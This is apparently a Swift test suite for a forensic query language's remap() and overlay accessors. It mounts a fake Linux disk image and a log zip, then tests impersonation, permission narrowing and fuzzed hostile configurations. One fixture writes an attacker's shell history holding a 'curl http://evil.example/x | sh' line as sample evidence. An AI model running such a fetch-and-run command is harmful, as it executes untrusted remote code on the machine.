import Foundation
import Testing
import VQL

/// remap() over real folders and a real zip (made by zip(1)): a dead disk's tree read through the
/// `file` accessor by unchanged queries, mount points, shadows, impersonation, narrowed
/// permissions and refused configurations; and the `overlay` accessor.
@Suite struct RemapTests {
    /// A folder laid out like a small Linux root, and a zip of logs beside it.
    static func image() throws -> String {
        let dir = Fixture.directory("remap")
        Fixture.write(dir + "/root/etc/hostname", "deadhost\n")
        Fixture.write(dir + "/root/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nmallory:x:1001:1001::/home/mallory:/bin/bash\n")
        Fixture.write(dir + "/root/home/mallory/.bash_history", "curl http://evil.example/x | sh\n")
        Fixture.write(dir + "/logs/auth.log", "Failed password for root\n")
        try Fixture.shell("cd logs && zip -q -r ../logs.zip auth.log", in: dir)
        return dir
    }

    static func config(_ dir: String, extra: String = "") -> String {
        """
        remappings:
        - type: mount
          from: {accessor: file, prefix: \(dir)/root}
          on: {accessor: file, prefix: /, path_type: linux}
        - type: mount
          from:
            accessor: zip
            prefix: '{"DelegateAccessor":"file","DelegatePath":"\(dir)/logs.zip","Path":"/"}'
          "on": {accessor: file, prefix: /var/log}
        \(extra)
        """
    }

    @Test func aMountedTreeIsWhatTheFileAccessorSees() throws {
        let dir = try Self.image()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (rows, log) = try Fixture.run("""
            LET _ <= remap(config=Config, clear=TRUE)
            SELECT OSPath, IsDir FROM glob(globs='/**') ORDER BY OSPath
            """, variables: ["Config": .string(Self.config(dir))])
        let paths = rows.compactMap { Fixture.string($0, "OSPath") }
        #expect(paths == [
            "/etc", "/etc/hostname", "/etc/passwd", "/home", "/home/mallory", "/home/mallory/.bash_history",
            "/var", "/var/log", "/var/log/auth.log",
        ], "\(log)")
        // The virtual /var (only a mount point lies below it) is a directory.
        #expect(rows.first { Fixture.string($0, "OSPath") == "/var" }?.member("IsDir").isTruthy == true)

        // Unchanged queries read the image: files, parsers, hashes, the default accessor.
        let read = try Fixture.rows("""
            LET _ <= remap(config=Config, clear=TRUE)
            SELECT read_file(filename='/etc/hostname') AS Host,
                   read_file(filename='/var/log/auth.log', accessor='file') AS Log,
                   hash(path='/etc/passwd').MD5 AS MD5,
                   {SELECT Line FROM parse_lines(filename='/etc/passwd') WHERE Line =~ '^mallory:'} AS Mallory
            FROM scope()
            """, variables: ["Config": .string(Self.config(dir))])
        let row = try #require(read.first)
        #expect(Fixture.string(row, "Host") == "deadhost\n")
        #expect(Fixture.string(row, "Log") == "Failed password for root\n")
        let md5 = try Fixture.shell("md5sum root/etc/passwd", in: dir).split(separator: " ").first.map(String.init)
        #expect(Fixture.string(row, "MD5") == md5)
        // A one-column, one-row subquery is its value (an empty one is NULL).
        #expect(Fixture.string(row, "Mallory")?.hasPrefix("mallory:x:1001") == true)

        // The live machine is out of reach: its /proc and its /etc/os-release are not there, and
        // with clear=TRUE other accessors are gone.
        let (live, liveLog) = try Fixture.run("""
            LET _ <= remap(config=Config, clear=TRUE)
            SELECT {SELECT * FROM glob(globs='/proc/self/status')} AS Proc,
                   stat(filename='/etc/os-release') AS Release,
                   read_file(filename='x', accessor='data') AS Data
            FROM scope()
            """, variables: ["Config": .string(Self.config(dir))])
        let lrow = try #require(live.first)
        #expect(lrow.member("Proc").isNull)
        #expect(lrow.member("Release").isNull)
        #expect(lrow.member("Data").isNull)
        #expect(liveLog.contains { $0.contains("unknown accessor 'data'") && $0.contains("a remapping left only") }, "\(liveLog)")
    }

    @Test func withoutClearOtherAccessorsStayAndCopyKeepsNamedOnes() throws {
        let dir = try Self.image()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let rows = try Fixture.rows("""
            LET _ <= remap(config=Config)
            SELECT read_file(filename='abc', accessor='data') AS Data, read_file(filename='/etc/hostname') AS Host FROM scope()
            """, variables: ["Config": .string(Self.config(dir))])
        #expect(Fixture.string(rows[0], "Data") == "abc")
        #expect(Fixture.string(rows[0], "Host") == "deadhost\n")
        let copied = try Fixture.rows("""
            LET _ <= remap(config=Config, clear=TRUE, copy=['data'])
            SELECT read_file(filename='abc', accessor='data') AS Data FROM scope()
            """, variables: ["Config": .string(Self.config(dir))])
        #expect(Fixture.string(copied[0], "Data") == "abc")
    }

    @Test func shadowsImpersonationAndPermissions() throws {
        let dir = try Self.image()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let extra = """
            - type: shadow
              from: {accessor: data}
              "on": {accessor: bytes}
            - type: impersonation
              os: linux
              hostname: Virtual Host
              env:
              - {key: HOME, value: /root}
              disabled_plugins: [pslist]
              disabled_functions: [upload]
            - type: permissions
              permissions: [FILESYSTEM_READ, MACHINE_STATE, COLLECT_CLIENT]
            """
        let (rows, log) = try Fixture.run("""
            LET _ <= remap(config=Config, clear=TRUE)
            SELECT read_file(filename='xyz', accessor='bytes') AS Shadowed,
                   {SELECT Hostname FROM info()} AS Info,
                   environ(var='HOME') AS Home, environ(var='PATH') AS Path,
                   expand(path='$HOME/.bash_history') AS History,
                   {SELECT * FROM pslist() LIMIT 1} AS Processes,
                   {SELECT * FROM execve(argv=['/bin/true'])} AS Ran
            FROM scope()
            """, variables: ["Config": .string(Self.config(dir, extra: extra.split(separator: "\n").joined(separator: "\n")))])
        let row = try #require(rows.first, "\(log)")
        #expect(Fixture.string(row, "Shadowed") == "xyz")
        #expect(Fixture.string(row, "Info") == "Virtual Host", "\(log)")
        #expect(Fixture.string(row, "Home") == "/root")
        #expect(row.member("Path").isNull)
        #expect(Fixture.string(row, "History") == "/root/.bash_history")
        #expect(row.member("Processes").isNull)
        #expect(row.member("Ran").isNull)
        #expect(log.contains { $0.contains("pslist: disabled in this session by a remapping") }, "\(log)")
        // execve needs EXECVE, which the remapping did not keep.
        #expect(log.contains { $0.contains("permission denied") && $0.contains("EXECVE") }, "\(log)")
    }

    @Test func badConfigurationsAreRefusedAndChangeNothing() throws {
        for (config, expected) in [
            ("remappings:\n- type: teleport\n", "unknown type 'teleport'"),
            ("remappings: [", "not valid YAML"),
            ("other: 1\n", "needs a `remappings` list"),
            ("remappings:\n- type: mount\n  \"on\": {accessor: file, prefix: /}\n", "needs `from`"),
            ("remappings:\n- type: mount\n  from: {accessor: nosuch, prefix: /}\n  \"on\": {accessor: file, prefix: /}\n", "unknown accessor 'nosuch'"),
        ] {
            let (rows, log) = try Fixture.run("""
                LET X <= remap(config=Config, clear=TRUE)
                SELECT X, read_file(filename='/etc/hostname') AS Live FROM scope()
                """, variables: ["Config": .string(config)])
            #expect(rows.first?.member("X").isNull != false)
            #expect(rows.first?.member("Live").stringValue == String(decoding: Fixture.read("/etc/hostname"), as: UTF8.self), "\(config)")
            #expect(log.contains { $0.contains("remap:") && $0.contains(expected) }, "\(config): \(log)")
        }
    }

    /// Configurations assembled at random from hostile pieces (unknown types and accessors, `..`
    /// and pathspec prefixes, mounts on mounts, a shadow of an accessor onto itself, YAML anchors,
    /// deep nesting) and the reads after them: refusals are logged, nothing traps, nothing loops.
    @Test func randomConfigurationsNeverTrap() throws {
        let types = ["mount", "shadow", "permissions", "impersonation", "teleport", ""]
        let accessors = ["file", "auto", "data", "zip", "overlay", "raw_ext4", "nosuch", "collector", "''"]
        let prefixes = ["/", "", "/..", "../../etc", "/etc", "'{\"DelegateAccessor\":\"file\",\"DelegatePath\":\"/etc/hostname\"}'",
                        String(repeating: "/a", count: 300), "\"\\u00e9/\\x00\"", "*", "C:\\Windows"]
        var random = SystemRandomNumberGenerator()
        func pick(_ list: [String]) -> String { list[Int(random.next() % UInt64(list.count))] }
        for round in 0..<60 {
            var text = "remappings:\n"
            for _ in 0..<(1 + Int(random.next() % 4)) {
                text += "- type: \(pick(types))\n"
                text += "  from: {accessor: \(pick(accessors)), prefix: \(pick(prefixes)), path_type: \(pick(["linux", "windows", "x"]))}\n"
                text += "  \(pick(["on", "\"on\"", "off"])): &a {accessor: \(pick(accessors)), prefix: \(pick(prefixes))}\n"
                text += "  permissions: [\(pick(["FILESYSTEM_READ", "EXECVE", "x", ""]))]\n"
                text += "  env: \(pick(["[{key: A, value: *a}]", "[1, [2]]", "{}", String(repeating: "[", count: 50)]))\n"
                text += "  disabled_plugins: \(pick(["[glob]", "[stat, read_file]", "x", "[[[]]]"]))\n"
            }
            let (rows, _) = try Fixture.run("""
                LET _ <= remap(config=Config, clear=\(round % 2 == 0 ? "TRUE" : "FALSE"), copy=['data'])
                LET OVERLAY_ACCESSOR_DELEGATES <= dict(accessor='file', paths=['/etc', '/'])
                SELECT count() AS N FROM chain(
                    a={ SELECT OSPath FROM glob(globs='/*/*') LIMIT 200 },
                    b={ SELECT read_file(filename='/etc/hostname', length=64) AS H FROM scope() },
                    c={ SELECT OSPath FROM glob(globs='host*', accessor='overlay') })
                GROUP BY 1
                """, variables: ["Config": .string(text)])
            #expect(rows.count <= 1, "\(text)")
        }
    }

    @Test func overlayMergesDirectoriesFirstOneWinning() throws {
        let dir = Fixture.directory("overlay")
        defer { try? FileManager.default.removeItem(atPath: dir) }
        Fixture.write(dir + "/a/tool", "first")
        Fixture.write(dir + "/b/tool", "second")
        Fixture.write(dir + "/b/other", "only in b")
        Fixture.write(dir + "/b/sub/deep", "deep")
        let (rows, log) = try Fixture.run("""
            LET OVERLAY_ACCESSOR_DELEGATES <= dict(accessor='file', paths=[Dir + '/a', Dir + '/b'])
            SELECT OSPath, read_file(filename=OSPath, accessor='overlay') AS Data
            FROM glob(globs='**', accessor='overlay') WHERE NOT IsDir ORDER BY OSPath
            """, variables: ["Dir": .string(dir)])
        #expect(rows.map { "\(Fixture.string($0, "OSPath") ?? "")=\(Fixture.string($0, "Data") ?? "")" } == [
            "/other=only in b", "/sub/deep=deep", "/tool=first",
        ], "\(log)")
        let (none, noneLog) = try Fixture.run("SELECT * FROM stat(filename='/tool', accessor='overlay')")
        #expect(none.isEmpty)
        #expect(noneLog.contains { $0.contains("OVERLAY_ACCESSOR_DELEGATES") })
    }
}
